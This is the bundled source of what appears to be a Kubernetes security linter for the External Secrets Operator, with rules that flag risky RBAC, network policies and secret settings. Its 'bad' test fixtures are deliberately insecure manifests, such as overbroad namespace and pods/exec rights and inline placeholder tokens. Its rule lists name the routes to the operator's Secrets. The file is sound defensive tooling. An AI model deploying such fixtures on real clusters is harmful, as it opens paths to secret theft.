kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, watch, update, patch]
  - apiGroups: [""]
    resources: [namespaces]
    verbs: [get, list, watch]
  - apiGroups: [""]
    resources:
      - namespaces # finding: ServiceAccount eso/controller (in all namespaces) can update, patch every Namespace
    verbs: [update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# People who are no operators, in a cluster whose stores go by labels.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec:
  conditions: [{ namespaceSelector: { matchLabels: { team: shop } } }]
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: onboarding }
rules:
  - apiGroups: [""]
    resources: [namespaces, quotas] # finding: Group leads (in all namespaces) can update, patch every Namespace
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: onboarding }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: onboarding }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: leads }
`
  ],
  good: [
    `
# One namespace by name, one by its binding; and another tool's rights are not this tool's business.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, watch, update, patch]
  - apiGroups: [""]
    resources: [namespaces]
    resourceNames: [shop]
    verbs: [patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: namespace-owner }
rules:
  - { apiGroups: [""], resources: [namespaces], verbs: [get, update, patch] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: namespace-owner, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: namespace-owner }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: tenants }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: namespace-owner }
subjects:
  - { kind: ServiceAccount, name: tenant-operator, namespace: tenants }
`
  ],
  *check(role, world) {
    const grants = world.rbac.grantsOf(role).filter(({ namespace, subject }) => namespace === void 0 && isJudged(subject, world));
    for (const rule2 of grants.length > 0 ? policyRules(role) : []) {
      const verbs = verbsGiven(rule2, NAMESPACES);
      if (verbs.length === 0 || rule2.resourceNames.length > 0) continue;
      yield {
        path: resourcePath(rule2, "namespaces"),
        message: `${holders(grants)} can ${verbs.join(", ")} every Namespace, its Pod Security labels included`,
        related: bindingsOf(grants)
      };
    }
  },
  fix(fault) {
    if (fault.manifest?.template === void 0)
      return unsafe(
        WRITES2,
        withoutWrites(fault, (resource) => resource === "namespaces")
      );
    if (fault.world.of(`${ESO_GROUP}/ClusterExternalSecret`).length > 0) return void 0;
    const values = chartValues(fault, {
      processClusterExternalSecret: false,
      "crds.createClusterExternalSecret": false
    });
    return fault.world.has("complete") ? safe(values) : unsafe(CLUSTER_EXTERNAL_SECRETS, values);
  }
});
var WRITES2 = "Does the holder change namespaces? It is refused from then on.";
var CLUSTER_EXTERNAL_SECRETS = "Does anybody use ClusterExternalSecrets in this cluster? Their CRD goes, and with it those that there are.";
var NAMESPACES = { group: "", resource: "namespaces", verbs: ["update", "patch"] };
var isJudged = (subject, world) => isInScope(subject, world) || isHuman(subject) && !isUnknown(subject) && !world.isOperator(subject) && holdsEso(world);

// src/check/policy-aim.ts
var openDirections = ({ directions }, pod, { network }) => sharesNodeNetwork(pod) ? [] : [...directions].filter((direction) => network.isolating(pod, direction).length === 0).sort().reverse();
function isMeantFor({ policy, selectorPath }, components, world) {
  const values = valuesIn(policy.get(...selectorPath));
  if (!values || values.some(isPlaceholder)) return false;
  const labels = components.flatMap(({ pod }) => Object.values(pod.labels));
  return world.has("complete") || values.some((value) => labels.some((label) => resembles(value, label)));
}
var SHORTEST = 4;
var resembles = (value, label) => Math.min(value.length, label.length) >= SHORTEST && (label.includes(value) || value.includes(label));
var valuesIn = (selector) => typeof selector === "string" ? isPlaceholder(selector) ? void 0 : selector.match(/"[^"]*"|'[^']*'/g)?.map((text) => text.slice(1, -1)) ?? [] : requirementsOf(selector)?.flatMap(({ values }) => values);

// src/rules/network-policy-selects-nothing.ts
var network_policy_selects_nothing_default = defineRule({
  id: "network-policy-selects-nothing",
  title: "A network policy beside the operator selects no pod",
  severities: ["medium"],
  kinds: NAMESPACED_POLICY_KINDS,
  needs: ["install"],
  why: "The policy looks like protection and is none: its labels are on no pod of its namespace, and the operator’s pods there are open in the very direction that it speaks of.",
  remedy: "Select the labels that the pods have: `app.kubernetes.io/name` is `external-secrets`, `external-secrets-webhook` or `external-secrets-cert-controller` in the operator chart, and `app.kubernetes.io/instance` the name of the release. An empty `podSelector: {}` takes all pods of the namespace.",
  references: [
    "https://kubernetes.io/docs/concepts/services-networking/network-policies/#networkpolicy-resource",
    "https://kubernetes.io/docs/concepts/overview/working-with-objects/labels/#label-selectors"
  ],
  guide: ["NS1"],
  bad: [
    `
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  podSelector: # finding: it selects no pod of the set, while the controller and the webhook are open for ingress and egress
    matchLabels: { app: external-secrets }
  policyTypes: [Ingress, Egress]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata: { labels: { app.kubernetes.io/name: external-secrets } }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    metadata: { labels: { app.kubernetes.io/name: external-secrets-webhook } }
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
`,
    `
# A letter is missing.
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: eso, namespace: eso }
specs:
  - endpointSelector: # finding: it selects no pod of the set, while the controller is open for egress
      matchLabels: { k8s:app.kubernetes.io/name: external-secret }
    egress: [{ toEntities: [kube-apiserver] }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata: { labels: { app.kubernetes.io/name: external-secrets } }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# With everything in the set, no pod is left that it might mean.
# config: { clusters: { default: { complete: true } } }
apiVersion: projectcalico.org/v3
kind: NetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  selector: role == 'operator' # finding: it selects no pod of the set, while the controller is open for ingress
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata: { labels: { app.kubernetes.io/name: external-secrets } }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
# Labels that are filled in later, and a policy for somebody who is not in the set.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: later, namespace: eso }
spec:
  podSelector: { matchLabels: { app.kubernetes.io/name: external-secrets, app.kubernetes.io/instance: "\${RELEASE}" } }
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: connect, namespace: eso }
spec:
  podSelector: { matchLabels: { app: onepassword-connect } }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata: { labels: { app.kubernetes.io/name: external-secrets } }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# What it speaks of is closed by another policy.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  podSelector: { matchLabels: { app: external-secrets } }
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: default-deny, namespace: eso }
spec:
  podSelector: {}
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata: { labels: { app.kubernetes.io/name: external-secrets } }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# It selects nobody in a namespace where the operator is not, and here a pod beside the operator.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: eso, namespace: shop }
spec:
  podSelector: { matchLabels: { app: external-secrets } }
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: job, namespace: eso }
spec:
  podSelector: { matchLabels: { app: external-secrets-job } }
---
apiVersion: v1
kind: Pod
metadata: { name: job, namespace: eso, labels: { app: external-secrets-job } }
spec: { serviceAccountName: job, containers: [{ name: job, image: "registry.example.com/job:v1" }] }
---
apiVersion: v1
kind: Pod
metadata: { name: other, namespace: eso, labels: { app: other } }
spec: { serviceAccountName: job, containers: [{ name: job, image: "registry.example.com/job:v1" }] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata: { labels: { app.kubernetes.io/name: external-secrets } }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *check(policy, world) {
    const { network, pods } = world;
    const beside = componentsOf(world).filter(({ pod }) => pod.manifest.namespace === policy.namespace);
    for (const isolation of beside.length > 0 ? network.isolationsBy(policy) : []) {
      const open = beside.filter(({ pod }) => openDirections(isolation, pod, world).length > 0);
      const isUsed2 = pods.some((pod) => network.selecting(pod).includes(isolation));
      if (isUsed2 || open.length === 0 || !isMeantFor(isolation, open, world)) continue;
      const directions = [...new Set(open.flatMap(({ pod }) => openDirections(isolation, pod, world)))];
      const verb = new Set(open.map(({ role }) => role)).size > 1 ? "are" : "is";
      yield {
        path: isolation.selectorPath,
        message: `it selects no pod of the set, while ${rolesText(open)} ${verb} open for ${joined(directions)}`
      };
    }
  }
});

// src/model/eso/pushes.ts
function pushSourceOf(manifest) {
  const spec = PUSHING_KINDS.includes(manifest.groupKind) ? specPathOf(manifest) : void 0;
  const selector = spec && asMapping(manifest.get(...spec, "selector"));
  const secret = asMapping(selector?.secret);
  if (!selector || isPlaceholder(selector) || isPlaceholder(secret?.name)) return { from: "unknown" };
  const name = asText(secret?.name);
  if (name) return { from: "secret", name };
  if (asMapping(selector.generatorRef)) return { from: "generator" };
  return asMapping(secret?.selector) ? { from: "selector", selector: secret?.selector } : { from: "unknown" };
}
var isEmptySelector = (selector) => !isPlaceholder(selector) && requirementsOf(selector)?.length === 0;

// src/rules/never-refreshed-secret.ts
var never_refreshed_secret_default = defineRule({
  id: "never-refreshed-secret",
  title: "An ExternalSecret is fetched once and never again",
  severities: ["low"],
  kinds: FETCHING_KINDS,
  why: "When the credential is rotated, or withdrawn because it leaked, the Secret in the cluster stays as it was. Workloads break, and so rotation is put off until nobody dares to.",
  remedy: "Set `refreshInterval` to how long an old value may live (an hour is the default), leave `refreshPolicy` at Periodic, and do not set `target.immutable`.",
  references: [
    "https://external-secrets.io/latest/api/externalsecret/",
    "https://external-secrets.io/latest/guides/ownership-deletion-policy/"
  ],
  guide: ["TM2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: zero, namespace: shop }
spec:
  refreshInterval: 0h0m0s # finding: refreshInterval 0h0m0s
  data: [{ secretKey: a, remoteRef: { key: a } }]
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: once }
spec:
  externalSecretSpec:
    refreshPolicy: CreatedOnce # finding: refreshPolicy CreatedOnce
    refreshInterval: 1h
    data: [{ secretKey: a, remoteRef: { key: a } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: immutable, namespace: shop }
spec:
  refreshInterval: 1h
  target:
    immutable: true # finding: the Secret is immutable
  dataFrom:
    - extract: { key: a }
    - sourceRef: { generatorRef: { kind: Password, name: password } }
---
# A PushSecret of another Secret brings nothing back.
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: other, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: other } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: hourly, namespace: shop }
spec:
  refreshInterval: 1h0m
  data: [{ secretKey: a, remoteRef: { key: a } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: later, namespace: shop }
spec:
  refreshInterval: "\${INTERVAL}"
  data: [{ secretKey: a, remoteRef: { key: a } }]
---
# With OnChange the interval is not read.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: on-change, namespace: shop }
spec:
  refreshPolicy: OnChange
  refreshInterval: "0"
  data: [{ secretKey: a, remoteRef: { key: a } }]
---
# A password that is made once should stay.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: generated, namespace: shop }
spec:
  refreshInterval: "0"
  dataFrom:
    - sourceRef: { generatorRef: { kind: Password, name: password } }
`,
    `
# A backup: the Secret is made in the cluster, pushed, and only brought back into a new one.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: restore, namespace: certificates }
spec:
  refreshPolicy: CreatedOnce
  target: { name: wildcard, creationPolicy: Orphan }
  dataFrom: [{ extract: { key: wildcard } }]
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: backup, namespace: certificates }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: wildcard } }
`
  ],
  *check(manifest, world) {
    const items = itemsOf(manifest);
    const fault = items.every(({ how }) => how === "generator") ? void 0 : faultOf2(manifest);
    if (!fault || isPushedBack(manifest, world)) return;
    yield { path: fault.path, message: `${fault.because}, so a rotated value never arrives` };
  },
  fix({ manifest, path }) {
    const spec = path.slice(0, path.lastIndexOf("spec") + 1);
    const interval = manifest?.get(...spec, "refreshInterval") ?? void 0;
    const field = path.at(-1);
    const isNever = interval !== void 0 && NEVER.test(String(interval));
    if (field === "immutable") return unsafe(ROTATION, setting(path, false));
    if (field === "refreshInterval") return unsafe(ROTATION, setting(path, HOURLY));
    const [periodic] = setting(path, "Periodic");
    return unsafe(ROTATION, [periodic, ...isNever ? setting([...spec, "refreshInterval"], HOURLY) : []]);
  }
});
var ROTATION = "Do those who use the Secret cope with another value in it while they run?";
var HOURLY = "1h";
function faultOf2(manifest) {
  const spec = specPathOf(manifest) ?? [];
  const policy = manifest.get(...spec, "refreshPolicy") ?? "Periodic";
  const interval = manifest.get(...spec, "refreshInterval") ?? void 0;
  if (policy === "CreatedOnce")
    return { path: [...spec, "refreshPolicy"], because: "it is fetched once only (refreshPolicy CreatedOnce)" };
  if (policy === "Periodic" && interval !== void 0 && NEVER.test(String(interval)))
    return { path: [...spec, "refreshInterval"], because: `it is fetched once only (refreshInterval ${interval})` };
  if (manifest.get(...spec, "target", "immutable") === true)
    return { path: [...spec, "target", "immutable"], because: "the Secret is immutable" };
  return void 0;
}
var NEVER = /^-|^\+?0[0.a-zµ]*$/;
function isPushedBack(manifest, world) {
  return pushed(world).has(placeOf(manifest.namespace, targetOf(manifest)?.name));
}
var placeOf = (namespace, name) => JSON.stringify([namespace, name]);
var pushed = remember((world) => {
  const pushes = PUSHING_KINDS.flatMap((kind) => world.of(kind));
  return new Set(
    pushes.flatMap((push) => {
      const source = pushSourceOf(push);
      return source.from === "secret" ? placeOf(push.namespace, source.name) : [];
    })
  );
});

// src/rules/open-cluster-generator.ts
var open_cluster_generator_default = defineRule({
  id: "open-cluster-generator",
  title: "A ClusterGenerator serves every namespace",
  severities: ["medium", "high"],
  kinds: [`${GENERATORS_GROUP}/ClusterGenerator`],
  needs: ["install"],
  why: "A ClusterGenerator has no conditions: whoever may create an ExternalSecret in any namespace draws tokens from it, with the identity of the controller pod where it names none, and with what stands in the manifest itself. Only the Secrets and ServiceAccounts that it refers to are looked up in the namespace of whoever draws.",
  remedy: "Make it a generator of its kind in each namespace that needs it, without a secret in the manifest, and switch ClusterGenerators off with `processClusterGenerator: false` and `crds.createClusterGenerator: false`. If it has to stay, let an admission policy say which namespaces may refer to it in `generatorRef`.",
  references: [
    "https://external-secrets.io/latest/api/generator/cluster/",
    "https://external-secrets.io/latest/guides/generator/"
  ],
  guide: ["TM6", "NI2"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers: [{ name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }]
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: ecr }
spec: # finding: it has no conditions, so whoever may create an ExternalSecret in any namespace draws from it
  kind: ECRAuthorizationToken
  generator: { ecrAuthorizationTokenSpec: { region: eu-west-1 } }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: inline }
spec: # finding[high]: draws from it, and what it hands out stands in the manifest (webhookSpec.headers.Authorization)
  kind: Webhook
  generator:
    webhookSpec:
      url: https://tokens.example.com
      headers: { Authorization: Bearer 0123456789, Accept: application/json }
      result: { jsonPath: $.token }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: fixed }
spec: # finding[high]: stands in the manifest (fakeSpec.data.password)
  kind: Fake
  generator: { fakeSpec: { data: { password: not-so-secret } } }
`,
    `
# Its ClusterRole lets the controller read them.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers: [{ name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: controller }
rules:
  - apiGroups: [generators.external-secrets.io]
    resources: [clustergenerators]
    verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: controller }
subjects: [{ kind: ServiceAccount, name: external-secrets, namespace: eso }]
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: webhook }
spec: # finding: draws from it
  kind: Webhook
  generator:
    webhookSpec:
      url: https://tokens.example.com
      headers: { Authorization: "Bearer {{ .login.token }}" }
      secrets: [{ name: login, secretRef: { name: login } }]
      result: { jsonPath: $.token }
`
  ],
  good: [
    `
# What is made from nothing gives nobody's secret away.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers: [{ name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }]
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: password }
spec:
  kind: Password
  generator: { passwordSpec: { length: 42 } }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ECRAuthorizationToken
metadata: { name: ecr, namespace: shop }
spec: { region: eu-west-1 }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: later }
spec:
  kind: "\${KIND}"
  generator: "\${GENERATOR}"
`,
    `
# processClusterGenerator=false: the controller may not read them.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers: [{ name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: controller }
rules:
  - apiGroups: [generators.external-secrets.io]
    resources: [ecrauthorizationtokens, generatorstates]
    verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: controller }
subjects: [{ kind: ServiceAccount, name: external-secrets, namespace: eso }]
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: ecr }
spec:
  kind: ECRAuthorizationToken
  generator: { ecrAuthorizationTokenSpec: { region: eu-west-1 } }
`
  ],
  *check(manifest, world) {
    const generator = generatorOf(manifest);
    if (!generator || isLocal(generator)) return;
    const controllers = world.eso.installs.flatMap(({ controller }) => controller ?? []);
    if (!controllers.some((controller) => mayRead(controller, world))) return;
    const inline = inlineFields(generator);
    const message = "it has no conditions, so whoever may create an ExternalSecret in any namespace draws from it";
    if (inline.length === 0) yield { path: ["spec"], message };
    else
      yield {
        path: ["spec"],
        severity: "high",
        message: `${message}, and what it hands out stands in the manifest (${inline.join(", ")})`
      };
  }
});
var isLocal = ({ known }) => [known.stored, known.keyless, known.inline, known.ambient, known.endpoints].every((list) => (list ?? []).length === 0);
function mayRead({ pod }, { rbac }) {
  const subject = accountOf(pod);
  return rightsOf(subject, rbac).length === 0 || hasEverywhere(subject, READ_CLUSTER_GENERATORS, rbac);
}
var READ_CLUSTER_GENERATORS = { group: GENERATORS_GROUP, resource: "clustergenerators", verbs: ["get"] };
var inlineFields = ({ known, path, config }) => (known.inline ?? []).flatMap(
  ({ field, isFreeForm }) => placesOf(config, field).filter((place) => typeof place.value === "string" && place.value !== "" && !isPlaceholder(place.value)).filter((place) => !isFreeForm || tellsCredential(String(place.path.at(-1)), place.value)).map((place) => [...path.slice(2), ...place.path].join("."))
);
var tellsCredential = (key, value) => key !== "body" && isCredentialKey(key) || holdsCredential(key, value);

// src/rules/operator-namespace-access.ts
var operator_namespace_access_default = defineRule({
  id: "operator-namespace-access",
  title: "Somebody who is no operator can take over pods of the operator",
  severities: ["high"],
  kinds: BINDING_KINDS,
  needs: ["install"],
  why: "Whoever starts, changes or enters a pod in the operator's namespace acts as its ServiceAccount and so holds what it holds: the Secrets of the cluster, and the way to every provider. Secrets there are its credentials and certificates.",
  remedy: "Keep the operator in a namespace of its own and bind nobody there but operators, whom you name under `operators` in this tool's config; bind developers in their namespaces with RoleBindings instead of a ClusterRoleBinding.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#workload-creation"
  ],
  guide: ["TM1"],
  supersedes: ["human-secret-access"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: debugger, namespace: eso }
rules:
  - apiGroups: [""]
    resources: [pods, pods/log]
    verbs: [get, list, watch]
  - apiGroups: [""]
    resources: [pods/exec]
    verbs: [create]
  - apiGroups: [""]
    resources: [secrets]
    verbs: [list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: debugger, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: debugger }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: support } # finding: Group support can create pods/exec; list secrets in namespace eso, where the operator runs, through Role debugger and is not a configured operator
  - { kind: ServiceAccount, name: debugger, namespace: tools } # finding: ServiceAccount tools/debugger can create pods/exec
---
# What holds everywhere holds here.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: developers }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers } # finding: can create, update, patch, delete pods; get, create pods/exec; get, create pods/attach; create, update, patch, delete secrets; create, update, patch, delete deployments in namespace eso
`
  ],
  good: [
    `
# config: { operators: [{ kind: Group, name: platform }] }
# Reading logs, rights in other namespaces, operators, the operator itself, and a tool that serves the whole cluster.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: viewers, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: operators, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: platform }
  - { kind: ServiceAccount, name: controller, namespace: eso }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: job-runner }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { kind: ServiceAccount, name: runner, namespace: jobs }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: cleaner }
rules:
  - { apiGroups: [""], resources: [secrets], verbs: [list, delete] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: cleaner }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cleaner }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: support }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: certificate-reader, namespace: eso }
rules:
  - { apiGroups: [""], resources: [secrets], resourceNames: [public-ca], verbs: [get] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: certificate-reader, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: certificate-reader }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`
  ],
  *check(binding, world) {
    const grants = world.rbac.grantsIn(binding).filter((grant) => isIntruder(grant, world));
    if (grants.length === 0) return;
    const rights = rightsBy(binding, world.rbac);
    const ways = (binding.kind === "ClusterRoleBinding" ? WAYS : [...WAYS, READING]).map((access) => ({ access, verbs: verbsOfAnyName(rights, access) })).filter((way) => isWay(way));
    if (ways.length === 0) return;
    const what = ways.map(({ access, verbs }) => `${verbs.join(", ")} ${access.resource}`).join("; ");
    const used = rights.filter((right) => ways.some(({ access }) => verbsOfAnyName([right], access).length > 0));
    for (const grant of grants)
      yield {
        path: grant.path,
        message: `${nameOfSubject(grant.subject)} can ${what} in namespace ${placesOf2(grant, world)}, where the operator runs, through ${boundRoleName(binding, world.rbac)} and is not a configured operator`,
        related: rulesBehind(used, "a rule that gives it")
      };
  },
  fix: (fault) => unsafe(NEEDED4, fault.path[0] === "subjects" ? withoutSubject(fault) : void 0)
});
var NEEDED4 = "Do those named here look after the operator? They lose what this binding gives them, in other namespaces, too.";
var CHANGES2 = ["create", "update", "patch", "delete"];
var WAYS = [
  { group: "", resource: "pods", verbs: CHANGES2 },
  { group: "", resource: "pods/exec", verbs: ["get", "create"] },
  { group: "", resource: "pods/attach", verbs: ["get", "create"] },
  { group: "", resource: "pods/ephemeralcontainers", verbs: ["update", "patch"] },
  { group: "", resource: "secrets", verbs: CHANGES2 },
  { group: "apps", resource: "deployments", verbs: CHANGES2 }
];
var READING = { group: "", resource: "secrets", verbs: ["get", "list", "watch"] };
var isWay = ({ verbs }) => verbs.some((verb) => verb !== "delete");
function isIntruder({ subject, namespace }, world) {
  if (isUnknown(subject) || world.isOperator(subject)) return false;
  if (namespace !== void 0) return world.eso.isOwnNamespace(namespace);
  return isHuman(subject) || isInScope(subject, world);
}
var placesOf2 = ({ namespace }, { eso }) => namespace ?? [...new Set(eso.installs.flatMap((install) => install.namespace ?? []))].join(", ");

// src/check/own-tokens.ts
var isAsked = ({ field, unless }, { config }) => isSet(config, field) && !keysOf(field).some((_, i, keys) => isPlaceholder(valueAt(config, keys.slice(0, i + 1)))) && !unless.some((other) => isSet(config, other));
function* mightyAccounts(manifest, connected, world) {
  for (const account of accountsOf(manifest, world)) {
    const might = account.isForApiServer ? mightOf(account, world) : void 0;
    if (might === void 0) continue;
    const { says: says2, severity } = receiverOf(connected.known?.endpoints?.[0]?.field, connected, world);
    yield {
      path: account.path,
      severity,
      message: `it sends a token of ${might} to ${says2}, and the token is good for the API server: name a ServiceAccount of its own, and audiences`
    };
  }
}
function mightOf({ name, namespaces }, { eso, rbac }) {
  for (const namespace of namespaces) {
    const subject = { kind: "ServiceAccount", name, namespace };
    if (eso.isOwn(subject)) return `the operator's own ServiceAccount ${namespace}/${name}`;
    if (hasEverywhere(subject, SECRET_ACCESS, rbac))
      return `ServiceAccount ${namespace}/${name}, which has rights to the Secrets of all namespaces,`;
  }
  return void 0;
}
function receiverOf(to, connected, { config: { allowedEndpoints } }) {
  if (to === void 0) return { says: titleOf(connected), severity: "medium" };
  const { config, known } = connected;
